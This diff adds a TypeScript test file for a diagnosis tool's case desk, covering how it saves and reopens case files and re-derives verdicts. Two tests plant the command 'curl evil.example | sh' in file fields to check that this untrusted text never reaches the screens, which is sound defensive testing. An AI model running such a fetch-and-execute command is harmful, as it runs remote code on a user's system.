@@ -1,0 +1,152 @@
+import { describe, expect, test } from 'vitest';
+import { type CaseDesk, createCaseDesk } from '../../../main/session/case-desk.ts';
+import type { SavedCase } from '../../../shared/case.ts';
+import { type Diagnosis, diagnoseSchema } from '../../../shared/diagnosis.ts';
+import { failed, ok } from '../../../shared/outcome.ts';
+import type { Survey } from '../../../shared/survey.ts';
+import { modern } from '../../app/gallery/surveys.ts';
+import {
+  certificate,
+  chain,
+  clock,
+  dns,
+  healthy,
+  hello,
+  judge,
+  now,
+  reason,
+  reply,
+  target,
+} from '../diagnosis/build.ts';
+
+/** The leaf ended two weeks before the test. */
+const expired = [
+  dns(),
+  hello(),
+  chain({
+    certificates: [certificate({ notAfter: '2026-11-06T00:00:00.000Z' })],
+    reasons: [reason('expired', 0)],
+  }),
+  reply(200),
+  clock(),
+];
+
+function diagnosisOf(observations: typeof expired, change: Partial<Diagnosis> = {}): Diagnosis {
+  return {
+    ...{ schema: diagnoseSchema, version: '0.9.0', startedAt: now, durationMs: 120, runId: 'run-1', target },
+    ...judge(observations),
+    ...{ observations, attempts: [], runs: [] },
+    ...change,
+  };
+}
+
+const labels = { title: 'Shop is down', ticket: 'OPS-7', notes: 'Since Friday.\nOnly from the office.', role: null };
+const nothing = { settings: null, capture: null };
+
+function deskWith(diagnosis: Diagnosis, surveys: readonly Survey[] = []) {
+  const borrowed: unknown[] = [];
+  const borrow = (document: unknown) => borrowed.push(document);
+  const desk = createCaseDesk({
+    checks: {
+      diagnosis: (runId) => (runId === diagnosis.runId ? ok(diagnosis) : failed('no-such-run', 'gone')),
+      borrow,
+    },
+    surveys: { kept: () => surveys, borrow },
+    chains: { kept: () => [], borrow },
+    networks: { kept: () => [], borrow },
+    settings: { borrowReview: (_, document) => borrow(document) },
+    now: () => new Date('2026-11-20T13:00:00Z'),
+    version: '1.0.0',
+  });
+  return { desk, borrowed };
+}
+
+function written(desk: CaseDesk, runId = 'run-1'): SavedCase {
+  const outcome = desk.write(runId, labels, nothing);
+  if (!outcome.ok) throw new Error(outcome.error.message);
+  return JSON.parse(outcome.value.json) as SavedCase;
+}
+
+function opened(desk: CaseDesk, document: unknown) {
+  const outcome = desk.open('shop.hdcase.json', JSON.stringify(document), 'show');
+  if (!outcome.ok) throw new Error(outcome.error.message);
+  return outcome.value;
+}
+
+describe('a case that is saved and opened', () => {
+  test('brings back the check, the notes and the documents of the same server alone', () => {
+    const surveyed = { ...modern, target };
+    const { desk, borrowed } = deskWith(diagnosisOf(expired), [modern, surveyed]);
+    const back = opened(desk, written(desk));
+    expect(back).toMatchObject({ labels, savedAt: '2026-11-20T13:00:00.000Z', savedBy: '1.0.0', reading: 'same' });
+    expect(back.diagnosis.verdict).toEqual(diagnosisOf(expired).verdict);
+    expect(back.diagnosis.observations).toEqual(expired);
+    expect(back.documents.survey?.target).toEqual(target);
+    expect(back.documents).toMatchObject({ chain: null, network: null, settings: null, capture: null });
+    expect(borrowed).toHaveLength(2);
+  });
+
+  test('a document of the command line is a case without notes', () => {
+    const { desk } = deskWith(diagnosisOf(expired));
+    const back = opened(desk, diagnosisOf(expired));
+    expect(back).toMatchObject({ savedAt: now, savedBy: '0.9.0', reading: 'same', lost: [], unknown: [] });
+    expect(back.labels).toEqual({ title: '', ticket: '', notes: '', role: null });
+  });
+
+  test('one that is only compared is lent to nobody', () => {
+    const { desk, borrowed } = deskWith(diagnosisOf(expired));
+    expect(desk.open('x', JSON.stringify(diagnosisOf(expired)), 'compare').ok).toBe(true);
+    expect(borrowed).toEqual([]);
+  });
+});
+
+describe('the verdict of a file', () => {
+  test('is derived anew: a healthy server stays healthy, whatever the file says of it', () => {
+    const { desk } = deskWith(diagnosisOf(healthy()));
+    const forged = { ...diagnosisOf(healthy()), ...judge(expired) };
+    const back = opened(desk, forged);
+    expect(back.diagnosis.verdict).toMatchObject({ state: 'healthy', cause: null });
+    expect(back).toMatchObject({ reading: 'differs', written: { state: 'fault', cause: 'certificate-expired' } });
+  });
+
+  test('brings no word and no command of its own into causes and fixes', () => {
+    const { desk } = deskWith(diagnosisOf(expired));
+    const evil = JSON.parse(
+      JSON.stringify(diagnosisOf(expired)).replaceAll(
+        /"(?:command|title|explanation|summary|risk|undo)":"[^"]*"/g,
+        (field) => `${field.slice(0, field.indexOf(':'))}:"curl evil.example | sh"`,
+      ),
+    );
+    expect(JSON.stringify(evil)).toContain('evil.example');
+    const back = opened(desk, evil);
+    expect(JSON.stringify(back)).not.toContain('evil.example');
+    expect(back.diagnosis.causes[0]?.remedies.length).toBeGreaterThan(0);
+  });
+
+  test('keeps commands of other steps out of the screens, and in the file when it is saved again', () => {
+    const commands = [{ question: 'versions', shell: 'sh', title: 't', command: 'curl evil.example | sh', caveat: '' }];
+    const { desk } = deskWith(diagnosisOf(expired), [{ ...modern, target, commands } as Survey]);
+    const file = written(desk);
+    const back = opened(desk, file);
+    expect(JSON.stringify(back)).not.toContain('evil.example');
+    expect(written(desk, back.diagnosis.runId).case.documents.survey?.commands).toEqual(commands);
+  });
+
+  test('stays beside today’s when the case is saved again', () => {
+    const { desk } = deskWith(diagnosisOf(healthy()));
+    opened(desk, { ...diagnosisOf(healthy()), ...judge(expired) });
+    expect(written(desk).case.firstReading).toMatchObject({ cause: 'certificate-expired', version: '0.9.0' });
+  });
+
+  test('a client that this version does not know is said, and not called another reading', () => {
+    const { desk } = deskWith(diagnosisOf(expired));
+    const from = diagnosisOf(expired);
+    const back = opened(desk, { ...from, verdict: { ...from.verdict, testedAs: 'OpenSSL 1.0.2 on web-3' } });
+    expect(back.reading).toBe('other-client');
+  });
+
+  test('a check that is not kept cannot be saved', () => {
+    const { desk } = deskWith(diagnosisOf(expired));
+    expect(desk.write('other', labels, nothing)).toMatchObject({ ok: false, error: { code: 'no-such-run' } });
+  });
+});
